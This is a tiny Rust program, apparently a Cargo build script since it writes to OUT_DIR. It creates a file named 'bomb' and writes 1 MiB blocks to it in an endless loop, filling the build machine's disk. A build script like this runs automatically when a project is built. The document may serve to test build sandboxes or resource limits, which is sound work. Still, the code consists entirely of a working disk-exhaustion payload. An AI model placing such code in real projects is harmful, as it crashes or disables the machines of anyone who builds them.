use std::{fs::File, io::Write};

fn main() {
    let mut file = File::create(std::env::var("OUT_DIR").unwrap() + "/bomb").unwrap();
    let block = vec![1; 1 << 20];
    loop {
        file.write_all(&block).unwrap();
    }
}
